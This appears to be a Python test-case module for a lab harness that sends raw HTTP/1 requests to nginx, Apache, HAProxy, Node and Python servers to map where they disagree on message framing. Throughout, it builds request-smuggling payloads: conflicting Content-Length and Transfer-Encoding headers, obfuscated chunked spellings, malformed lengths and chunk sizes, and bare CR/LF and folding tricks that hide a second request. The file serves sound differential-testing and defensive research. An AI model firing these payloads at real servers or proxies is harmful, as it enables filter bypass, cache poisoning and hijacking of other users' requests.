"""HTTP/1 messages on whose framing servers differ: the first rows of section 1.9, named in ROWS (rows.py)."""
from .case import JUDGED, NOTHING, PAGE, REFUSED, RESET, case, pause
from .handshake import honest

ALL = ("nginx", "apache", "haproxy", "node", "python")
NO = (PAGE, REFUSED, RESET, NOTHING)


class Paths:
    """Targets of a run: what is meant to be seen, and the word of attack or twin."""

    def __init__(self, run):
        name = run.case.name
        self.good, self.bad = f"/{name}/good", f"/{name}/{run.word}"
        self.word = run.word
        # A request that a server must find where an inspector sees a body, or the reverse.
        self.hidden = f"GET {self.bad} HTTP/1.1\r\nHost: lab\r\n\r\n"

    def post(self, *headers, body="", target=None):
        return f"POST {target or self.good} HTTP/1.1\r\nHost: lab\r\n" + "".join(h + "\r\n" for h in headers) + "\r\n" + body

    def get(self, *headers, target=None, version="HTTP/1.1", method="GET"):
        return f"{method} {target or self.bad} {version}\r\nHost: lab\r\n" + "".join(h + "\r\n" for h in headers) + "\r\n"


def chunked(*parts):
    return "".join(f"{len(p):x}\r\n{p}\r\n" for p in parts) + "0\r\n\r\n"


def twin_post(run):
    """What the odd spellings stand for: a body by length, a body in chunks, and one request after them."""
    c = run.open()
    p = Paths(run)
    c.send((p.post("Content-Length: 4", body="a=1&") + p.post("Transfer-Encoding: chunked", body=chunked("a=1", "&b=2"))
            if run.server != "python" else p.post("Content-Length: 4", body="a=1&") * 2).encode() + p.get().encode())
    run.responses = 3
    run.answer(c, 3)


def http(name, row, says, make, expect=NO, twin=twin_post, servers=ALL, responses=2):
    """make(paths) is the text that is sent; `twin`: "same" for the same text with the twin's word."""
    def play(run):
        c = run.open()
        data = make(Paths(run))
        c.send(data.encode("latin-1") if isinstance(data, str) else data)
        if run.is_twin:
            run.responses = responses
        run.answer(c, responses)
    case(name, row, says, expect, twin=None if twin == "same" else twin, servers=servers)(play)


def hides(row, prefix, spellings, says, expect=NO, length=True):
    """A field that some take for `Transfer-Encoding: chunked` beside a length that covers the hidden request, and
    (if there is no length) alone, where those who do not take it see a request without a body."""
    for label, field in spellings:
        def make(p, field=field):
            body = "0\r\n\r\n" + p.hidden
            return p.post(field, *([f"Content-Length: {len(body)}"] if length else []), body=body)
        http(f"{prefix}-{label}", row, f"{says}: {shown(field)}", make, expect)


def shown(text):
    return "`" + text.encode("unicode_escape").decode("ascii").replace("|", "\\|") + "`"


# --- both lengths ---

hides("cl-te", "cl-te", [("plain", "Transfer-Encoding: chunked")], "request hidden behind the last chunk, Content-Length covers it")
http("te-cl-plain", "cl-te", "request hidden in a chunk, Content-Length ends before it",
     lambda p: p.post("Content-Length: 4", "Transfer-Encoding: chunked", body=chunked(p.hidden)))
http("cl-zero-te", "cl-te", "Content-Length: 0 beside chunks that hold the hidden request",
     lambda p: p.post("Transfer-Encoding: chunked", "Content-Length: 0", body=chunked(p.hidden)))
http("te-http-1.0", "cl-te version", "Transfer-Encoding in HTTP/1.0, Content-Length covers the hidden request",
     lambda p: f"POST {p.good} HTTP/1.0\r\nHost: lab\r\nConnection: keep-alive\r\nTransfer-Encoding: chunked\r\nContent-Length: {5 + len(p.hidden)}\r\n\r\n0\r\n\r\n{p.hidden}")

hides("te-value", "te", [
    ("xchunked", "Transfer-Encoding: xchunked"),
    ("chunked-identity", "Transfer-Encoding: chunked, identity"),
    ("identity-chunked", "Transfer-Encoding: identity, chunked"),
    ("gzip-chunked", "Transfer-Encoding: gzip, chunked"),
    ("two-lines", "Transfer-Encoding: identity\r\nTransfer-Encoding: chunked"),
    ("twice", "Transfer-Encoding: chunked\r\nTransfer-Encoding: chunked"),
    ("tab", "Transfer-Encoding:\tchunked"),
    ("case", "transfer-ENCODING: ChUnKeD"),
    ("behind-lf", "X-Pad: a\nTransfer-Encoding: chunked"),
    ("behind-cr", "X-Pad: a\rTransfer-Encoding: chunked"),
    ("vertical-tab", "Transfer-Encoding: \x0bchunked"),
    ("parameter", "Transfer-Encoding: chunked;q=1"),
    ("quoted", 'Transfer-Encoding: "chunked"'),
    ("empty-element", "Transfer-Encoding: ,chunked,"),
    ("underscore", "Transfer_Encoding: chunked"),
    ("empty", "Transfer-Encoding:"),
    ("8-bit", "Transfer-Encoding: chunked\xa0"),
    ("leading-space", " Transfer-Encoding: chunked"),
], "Content-Length covers a hidden request, beside")
hides("te-value", "te-alone", [
    ("chunked-identity", "Transfer-Encoding: chunked, identity"), ("xchunked", "Transfer-Encoding: xchunked"),
    ("twice", "Transfer-Encoding: chunked, chunked")], "no length but", length=False)


# --- Content-Length ---

def lengths(label, row, says, fields, expect=NO, twin=twin_post, responses=2):
    """fields(n): header lines, of which some are read as n and some as 0 or as nothing."""
    http(label, row, f"{says}", lambda p: p.post(*fields(len(p.hidden)), body=p.hidden), expect, twin, responses=responses)


lengths("cl-zero-then-length", "cl-duplicate", "two lengths that differ, 0 first", lambda n: ["Content-Length: 0", f"Content-Length: {n}"])
lengths("cl-length-then-zero", "cl-duplicate", "two lengths that differ, 0 last", lambda n: [f"Content-Length: {n}", "Content-Length: 0"])
lengths("cl-list-differs", "cl-duplicate", "a list of two lengths", lambda n: [f"Content-Length: 0, {n}"])


def body_case(name, row, says, fields, expect=(PAGE, REFUSED), twin="same", servers=ALL, body=None):
    """One request with the word in its body."""
    def make(p):
        data = body(p) if body else f"a=1&q={p.word}"
        return p.post("Content-Type: application/x-www-form-urlencoded", *fields(len(data)), body=data)
    http(name, row, says, make, expect, twin, servers, responses=1)


body_case("cl-twice-equal", "cl-duplicate", "the same length twice", lambda n: [f"Content-Length: {n}"] * 2, NO, twin=twin_post)
for label, text in (("plus", "+{}"), ("comma", "{0},{0}"), ("hexadecimal", "0x{:x}"), ("semicolon", "{};"), ("underscore", "{}_0"),
                    ("point", "{}.0"), ("over-2-64", "1844674407370955{}"), ("minus", "-{}"), ("blank-inside", "1 {}"), ("letters", "{}a"),
                    ("empty", ""), ("tab-tab", "\t{}\t\x0b"), ("nul", "{}\0")):
    lengths(f"cl-{label}", "cl-junk", f"a length of the form {shown(text.format(16))}", lambda n, text=text: [f"Content-Length: {text.format(n)}"])
body_case("cl-blanks", "cl-junk", "blanks around the length", lambda n: [f"Content-Length:  {n} "])
body_case("cl-leading-zeros", "cl-junk", "a length with leading zeros", lambda n: [f"Content-Length: 000{n}"])
http("cl-short", "cl-junk pipelining", "a length that ends before the body does: the rest is a request",
     lambda p: p.post("Content-Length: 3", body="a=1" + p.hidden), (PAGE,), "same")


# --- chunks ---

def chunks(name, row, says, text, expect=NO, twin=twin_post, servers=("nginx", "apache", "haproxy", "node"), responses=2):
    """text(paths): the body, in chunks."""
    http(name, row, says, lambda p: p.post("Transfer-Encoding: chunked", body=text(p)), expect, twin, servers, responses)


def one_chunk(size, p, end="\r\n", data=None):
    return f"{size}{end}{data or 'q=' + p.word}\r\n0\r\n\r\n"


for label, size in (("0x", "0x6"), ("plus", "+6"), ("minus", "-6"), ("blank-after", "6 "), ("blank-before", " 6"), ("tab", "6\t"),
                    ("17-digits", "00000000000000006"), ("overflow", "10000000000000006"), ("letter", "6g"), ("underscore", "0_6"),
                    ("empty", ""), ("nul", "6\0"), ("32-bit", "100000006")):
    chunks(f"chunk-size-{label}", "chunk-size", f"a chunk of size {shown(size)}", lambda p, size=size: one_chunk(size, p), NO)
chunks("chunk-size-zeros", "chunk-size", "a chunk size with leading zeros", lambda p: one_chunk("0006", p), (PAGE,), "same", responses=1)
chunks("chunk-size-upper-case", "chunk-size", "a chunk size in upper case", lambda p: one_chunk("1A", p, data="q=" + p.word + "&pad=0123456789ABCDE"), (PAGE,), "same", responses=1)
chunks("chunk-extension", "chunk-size", "a chunk extension", lambda p: one_chunk('6;name="value"', p), (PAGE, REFUSED), "same", responses=1)
chunks("chunk-extension-lf", "chunk-size bare-lf", "a chunk extension with a bare LF, behind which some see data", lambda p: one_chunk("6;x\n", p))
chunks("chunk-extension-long", "chunk-size limits", "a chunk extension of 8,000 bytes", lambda p: one_chunk("6;" + "x" * 8000, p))
chunks("chunk-extension-cr", "chunk-size bare-cr", "a chunk extension with a bare CR", lambda p: one_chunk("6;a\rb", p))
chunks("chunk-data-no-crlf", "chunk-crlf", "no CRLF behind the chunk's data", lambda p: f"6\r\nq={p.word}0\r\n\r\n")
chunks("chunk-data-extra-crlf", "chunk-crlf", "two CRLFs behind the chunk's data", lambda p: f"6\r\nq={p.word}\r\n\r\n0\r\n\r\n")
chunks("chunk-data-longer", "chunk-crlf", "data longer than the size says", lambda p: f"4\r\nq={p.word}\r\n0\r\n\r\n")
chunks("chunk-size-lf", "chunk-crlf bare-lf", "the size ends in a bare LF", lambda p: f"6\nq={p.word}\r\n0\r\n\r\n")
chunks("chunk-data-lf", "chunk-crlf bare-lf", "the data ends in a bare LF", lambda p: f"6\r\nq={p.word}\n0\r\n\r\n")
chunks("chunk-size-cr", "chunk-crlf bare-cr", "the size ends in a bare CR", lambda p: f"6\rq={p.word}\r\n0\r\n\r\n")
chunks("chunk-last-lf", "chunk-crlf bare-lf", "the last chunk ends in bare LFs, a request behind it", lambda p: f"0\n\n{p.hidden}")
chunks("chunk-last-hides", "chunk-crlf pipelining", "a request right behind the last chunk's first CRLF", lambda p: f"0\r\n{p.hidden}", NO)
chunks("chunk-two-zeros", "chunk-size", "the last chunk is written 00", lambda p: f"6\r\nq={p.word}\r\n00\r\n\r\n", (PAGE,), "same", responses=1)
chunks("chunks-of-one-byte", "chunk-size", "the attack in chunks of one byte", lambda p: chunked(*f"a=1&q={p.word}"), (PAGE,), "same", responses=1)
chunks("chunked-then-request", "pipelining", "a clean body in chunks, the attack behind it", lambda p: chunked("a=1") + p.hidden, (PAGE,), "same")


# --- line ends, names, white space ---

http("lf-lines", "bare-lf", "every line ends in a bare LF", lambda p: p.get().replace("\r\n", "\n"), NO, responses=1)
http("lf-mixed", "bare-lf", "only the empty line ends in a bare LF", lambda p: p.get()[:-2] + "\n", NO, responses=1)
http("lf-lf-in-headers", "bare-lf pipelining", "LF LF in a field that ends the headers for some: a request behind it",
     lambda p: p.get("X-Pad: a\n\n" + p.hidden[:-4], target=p.good))
http("lf-before-length", "bare-lf", "a length behind a bare LF covers the hidden request",
     lambda p: p.post(f"X-Pad: a\nContent-Length: {len(p.hidden)}", body=p.hidden))
http("cr-in-value", "bare-cr", "a bare CR in a field, with a length behind it that covers the hidden request",
     lambda p: p.post(f"X-Pad: a\rContent-Length: {len(p.hidden)}", body=p.hidden))
http("cr-in-target", "bare-cr whitespace", "a bare CR in the target", lambda p: p.get(target=p.good + "\r" + p.bad))
http("cr-lines", "bare-cr", "every line ends in a bare CR", lambda p: p.get().replace("\r\n", "\r"))
http("cr-cr-lf", "bare-cr", "CR CR LF behind a field", lambda p: p.post(f"Content-Length: {len(p.hidden)}\r", body=p.hidden))
http("fold-transfer-encoding", "fold", "the coding on a folded line, Content-Length covers the hidden request",
     lambda p: p.post("Transfer-Encoding:\r\n chunked", f"Content-Length: {5 + len(p.hidden)}", body="0\r\n\r\n" + p.hidden))
http("fold-hides-length", "fold", "a length on a continuation line covers the hidden request",
     lambda p: p.post(f"X-Pad: a\r\n\tContent-Length: {len(p.hidden)}", body=p.hidden))
http("fold-value", "fold", "the attack on a continuation line", lambda p: p.get(f"X-Pad: a\r\n {p.word}", target=p.good), responses=1)
http("fold-first", "fold", "white space before the first field", lambda p: p.get().replace("Host", " Host"))
http("space-before-colon-length", "colon", "`Content-Length :` covers the hidden request",
     lambda p: p.post(f"Content-Length : {len(p.hidden)}", body=p.hidden))
http("space-before-colon-coding", "colon", "`Transfer-Encoding :` beside a length that covers the hidden request",
     lambda p: p.post("Transfer-Encoding : chunked", f"Content-Length: {5 + len(p.hidden)}", body="0\r\n\r\n" + p.hidden))
http("space-before-colon-host", "colon", "`Host :`", lambda p: p.get().replace("Host:", "Host :"), responses=1)
for label, name in (("nul", "Content-Length\0"), ("8-bit", "Content-Length\xa0"), ("bracket", "Content(Length)"), ("control", "\x01Content-Length"),
                    ("empty", ""), ("no-colon", None)):
    http(f"name-{label}", "name-bytes", f"a field name {shown(name or '')}{'' if name else ' or a line without colon'}",
         lambda p, name=name: p.post(f"{name}: {len(p.hidden)}" if name is not None else f"Content-Length {len(p.hidden)}", body=p.hidden))
http("value-nul", "name-bytes", "a NUL in a value, with the attack behind it", lambda p: p.get(f"X-Pad: a\0{p.word}", target=p.good), responses=1)
http("value-8-bit", "name-bytes", "8-bit octets in a value, with the attack among them", lambda p: p.get(f"X-Pad: \xe9{p.word}\xff", target=p.good),
     (PAGE,), "same", responses=1)
